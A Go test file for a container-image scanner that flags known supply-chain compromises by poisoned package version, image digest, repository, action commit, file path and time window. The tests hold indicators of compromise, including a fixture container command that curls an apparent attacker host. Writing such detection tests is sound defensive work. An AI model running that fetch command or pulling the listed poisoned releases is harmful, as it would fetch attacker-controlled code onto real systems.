package advisory

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/backtrail/backtrail/inspect"
	"github.com/backtrail/backtrail/inspect/engine"
	"github.com/backtrail/backtrail/inspect/layer"
	"github.com/backtrail/backtrail/inspect/layer/layertest"
	"github.com/backtrail/backtrail/inspect/sbom"
	"github.com/backtrail/backtrail/inspect/verdict"
	"github.com/backtrail/backtrail/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
)

func embeddedIndex(t *testing.T) *index {
	t.Helper()
	packs, err := EmbeddedPacks()
	if err != nil {
		t.Fatal(err)
	}
	return newIndex(packs, nil)
}

func rowsOf(t *testing.T, image inspect.Image) []inspect.Advisory {
	t.Helper()
	m := newMatches(embeddedIndex(t), image)
	m.packages()
	m.digests()
	m.identities()
	m.strings()
	m.windows()
	return m.rows
}

// Poisoned releases are named by package and version, and their neighbors are not.
func TestKnownReleases(t *testing.T) {
	for _, test := range []struct {
		purl, version string
		want          string // ID of the pack; empty: nothing
	}{
		{"pkg:deb/debian/liblzma5@5.6.1-1?upstream=xz-utils", "5.6.1-1", "xz-2024-03"},
		{"pkg:deb/debian/liblzma-dev@5.6.0-0.2?upstream=xz-utils", "5.6.0-0.2", "xz-2024-03"},
		{"pkg:deb/kali/xz-utils@5.6.0-0.2", "5.6.0-0.2", "xz-2024-03"},
		{"pkg:deb/debian/liblzma5@5.6.1%2Breally5.4.5-1?upstream=xz-utils", "5.6.1+really5.4.5-1", ""},
		{"pkg:apk/alpine/xz-libs@5.6.1-r1", "5.6.1-r1", "xz-2024-03"},
		{"pkg:apk/alpine/xz-libs@5.6.2-r0", "5.6.2-r0", ""},
		{"pkg:rpm/fedora/xz-libs@5.6.0-1.fc41?upstream=xz-5.6.0-1.fc41.src.rpm", "5.6.0-1.fc41", "xz-2024-03"},
		{"pkg:npm/axios@1.14.1", "1.14.1", "axios-2026-03"},
		{"pkg:npm/axios@1.14.0", "1.14.0", ""},
		{"pkg:npm/plain-crypto-js@4.2.0", "4.2.0", "axios-2026-03"},
		{"pkg:npm/chalk@5.6.2", "5.6.2", ""},
		{"pkg:gem/rest-client@1.6.10", "1.6.10", "rest-client-2019-08"},
		{"pkg:gem/rest-client@1.6.14", "1.6.14", ""},
		{"pkg:pypi/litellm@1.82.6", "1.82.6", ""},
		{"pkg:pypi/ultralytics@8.3.46", "8.3.46", "ultralytics-2024-12"},
		{"pkg:pypi/ultralytics@8.3.47", "8.3.47", ""},
		{"pkg:golang/github.com/boltdb-go/bolt@v1.3.1", "v1.3.1", "boltdb-go-2025-02"},
		{"pkg:golang/github.com/boltdb/bolt@v1.3.1", "v1.3.1", ""},
	} {
		rows := rowsOf(t, inspect.Image{Packages: []inspect.Package{{
			Name: "x", Version: test.version,
			PURL: test.purl,
		}}})
		switch {
		case test.want == "" && len(rows) > 0:
			t.Errorf("%s: %s", test.purl, rows[0].ID)
		case test.want != "" && (len(rows) != 1 || rows[0].ID != test.want ||
			rows[0].Severity.Rank() > inspect.High.Rank()):
			t.Errorf("%s: %+v", test.purl, rows)
		}
	}
}

const kicsIndex = "sha256:2588a44890263a8185bd5d9fadb6bc9220b60245dbcbc4da35e1b62a6f8c230d"

// Images are matched by digest wherever they lie, by reference at mirrors too, and by what went into them.
func TestImages(t *testing.T) {
	inWindow := inspect.At(time.Date(2024, 12, 25, 0, 0, 0, 0, time.UTC))
	for what, test := range map[string]struct {
		image    inspect.Image
		id       string
		severity inspect.Severity
	}{
		"digest": {
			inspect.Image{ImageHead: inspect.ImageHead{Index: kicsIndex, Reference: "mirror.example/scan:1"}},
			"kics-2026-04", inspect.Critical,
		},
		"reference in the window": {
			inspect.Image{ImageHead: inspect.ImageHead{
				Reference: "kong/kubernetes-ingress-controller:3.4.0",
				Created:   inWindow,
			}}, "kong-kic-2024-12", inspect.Critical,
		},
		"reference of a mirror": {
			inspect.Image{ImageHead: inspect.ImageHead{Reference: "mirror.gcr.io/kong/kubernetes-ingress-controller:3.4.0", Created: inWindow}}, "kong-kic-2024-12", inspect.Critical,
		},
		"reference out of the window": {inspect.Image{ImageHead: inspect.ImageHead{Reference: "kong/kubernetes-ingress-controller:3.4.0"}}, "kong-kic-2024-12", inspect.Low},
		"repository":                  {inspect.Image{ImageHead: inspect.ImageHead{Reference: "docker.io/pauseyyf/pause:3.9"}}, "dero-miners-2023", inspect.Critical},
		"material": {
			inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{
				URI:    "pkg:docker/x",
				Digest: kicsIndex,
			}}}}}, "kics-2026-04", inspect.Critical,
		},
		"commit of an action": {
			inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "git+https://github.com/tj-actions/changed-files", Digest: "sha1:0e58ed8671d6b60d0890c21b07f8835ace038e67"}}}}},
			"tj-actions-2025-03", inspect.High,
		},
		"host in a command": {
			inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Cmd: []string{
				"sh", "-c",
				"curl https://sfrclak.com:8000/x",
			}}}}, "axios-2026-03", inspect.Critical,
		},
		"window": {
			inspect.Image{ImageHead: inspect.ImageHead{Created: inspect.At(time.Date(2026, 3, 24, 12, 0, 0, 0,
				time.UTC))}, Packages: []inspect.Package{{
				Name: "litellm", Version: "1.82.6",
				PURL: "pkg:pypi/litellm@1.82.6",
			}}},
			"litellm-2026-03", inspect.Low,
		},
	} {
		rows := rowsOf(t, test.image)
		if len(rows) == 0 || rows[0].ID != test.id || rows[0].Severity != test.severity ||
			rows[len(rows)-1].ID != test.id {
			t.Errorf("%s: %+v", what, rows)
		}
	}
	for _, calm := range []string{
		"kong/kubernetes-ingress-controller:3.4.1", "aquasec/trivy:0.69.3",
		"registry.k8s.io/pause:3.9", "oci:/tmp/x", "/tmp/a.tar", "",
	} {
		if rows := rowsOf(t, inspect.Image{ImageHead: inspect.ImageHead{Reference: calm}}); len(rows) > 0 {
			t.Errorf("%s: %+v", calm, rows)
		}
	}
}

func TestParseWindow(t *testing.T) {
	w, err := ParseWindow("2026-03-24,2026-03-25")
	if err != nil {
		t.Fatal(err)
	}
	at := func(s string) inspect.Time {
		v, err := time.Parse(time.RFC3339, s)
		if err != nil {
			t.Fatal(err)
		}
		return inspect.At(v)
	}
	for stamp, want := range map[string]bool{
		"2026-03-23T23:59:59Z": false, "2026-03-24T00:00:00Z": true, "2026-03-25T23:59:59Z": true,
		"2026-03-26T00:00:00Z": false,
	} {
		if w.Holds(at(stamp)) != want {
			t.Errorf("%s: %v", stamp, !want)
		}
	}
	if w.Holds(inspect.Time{}) {
		t.Error("an unknown time is in the window")
	}
	if open, err := ParseWindow("2026-03-24T10:00:00Z,"); err != nil || !open.Holds(at("2030-01-01T00:00:00Z")) ||
		open.Holds(at("2026-03-24T09:00:00Z")) {
		t.Errorf("an open window: %v, %v", open, err)
	}
	for _, bad := range []string{"", ",", "2026", "soon,later", "2026-03-25,2026-03-24"} {
		if _, err := ParseWindow(bad); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
	m := newMatches(newIndex(nil, nil), inspect.Image{Layers: []inspect.Layer{{
		Number:  2,
		Created: at("2026-03-24T09:00:00Z"),
	}}})
	m.window = w
	if m.windows(); len(m.rows) != 1 || m.rows[0].Source != SourceFlag || !strings.Contains(m.rows[0].Subject,
		"layer 2") {
		t.Errorf("%+v", m.rows)
	}
}

// The check names files by content and path, and the finding names package, version, source and date.
func TestCheck(t *testing.T) {
	store, err := registry.OpenStore(t.TempDir())
	layertest.Must(t, err)
	client, err := registry.New(registry.Options{Store: store})
	layertest.Must(t, err)
	cache := layer.NewCache(store)
	modules := func(name, version string) []layertest.Member {
		return []layertest.Member{layertest.File("app/node_modules/"+name+"/package.json",
			`{"name":"`+name+`","version":"`+version+`"}`)}
	}
	bad := append(modules("event-stream", "3.3.6"), layertest.File(layertest.Site+"litellm_init.pth", "import os\n"))
	bad = append(bad, modules("chalk", "5.6.0")...)
	c := layertest.Run(t, client, layertest.Image(t, v1.Config{}, layertest.Step("npm ci", bad...)), nil,
		[]engine.Check{
			layer.Layers(client, cache), sbom.Packages(sbom.NewCataloguer(cache)), Advisories(NewData(t.TempDir()), cache),
		})
	i := c.Images[0]
	if len(i.Advisories) != 2 {
		t.Fatalf("rows: %+v", i.Advisories)
	}
	if a := i.Advisories[0]; a.ID != "event-stream-2018-11" || a.Kind != inspect.AdvisoryPackage || a.Layer != 0 ||
		a.Data.Digest == "" || a.Record == "" {
		t.Errorf("%+v", a)
	}
	if a := i.Advisories[1]; a.Kind != inspect.AdvisoryFile || a.Subject != "/"+layertest.Site+"litellm_init.pth" {
		t.Errorf("%+v", a)
	}
	var text string
	for _, f := range c.Findings {
		if f.Code == inspect.CodeKnownCompromise {
			text += f.Subject + " " + f.Title + " " + f.Detail + "\n"
		}
	}
	for _, want := range []string{
		"image:/app/node_modules/event-stream/package.json", "event-stream 3.3.6",
		"published 2018-11-26", "incident-pack", "not withdrawn", "litellm_init.pth",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the findings do not name %q:\n%s", want, text)
		}
	}
	if v := verdict.Of(&c); v.Status != inspect.CaseFailed {
		t.Errorf("status %s", v.Status)
	}
}

// Matches past the bound are counted, so that the check does not count as done.
func TestMatchesPastTheBound(t *testing.T) {
	m := newMatches(newIndex(nil, nil), inspect.Image{})
	for n := range maxRows + 3 {
		m.add(inspect.Advisory{ID: "x", Subject: strconv.Itoa(n)})
	}
	if m.missed != 3 {
		t.Errorf("%d missed", m.missed)
	}
}

// A hard link to a file of an incident is one too: what it was made of may be gone.
func TestFileOfHardLink(t *testing.T) {
	sum := strings.Repeat("ab", 32)
	m := newMatches(newIndex([]*Pack{{ID: "x", Files: []string{sum}}}, nil), inspect.Image{})
	m.file(&inspect.Node{Entry: inspect.Entry{Path: "/opt/a", Type: inspect.EntryHardlink, SHA256: sum}})
	if len(m.rows) != 1 {
		t.Errorf("%+v", m.rows)
	}
}

// A file's name alone is no proof: only its folder, or its bytes, make it the incident's.
func TestABareNameIsMedium(t *testing.T) {
	for path, want := range map[string]inspect.Severity{
		"/app/node_modules/x/setup_bun.js":                          inspect.Medium,
		"/app/node_modules/@tanstack/react-router/router_init.js":   inspect.Critical,
		"/app/node_modules/@example/react-router/my-router_init.js": "",
	} {
		m := newMatches(embeddedIndex(t), inspect.Image{})
		m.file(&inspect.Node{Entry: inspect.Entry{Path: path, Type: inspect.EntryFile, SHA256: strings.Repeat("0",
			64)}})
		var got inspect.Severity
		for _, r := range m.rows {
			got = r.Severity
		}
		if got != want {
			t.Errorf("%s is %q, want %q", path, got, want)
		}
	}
}
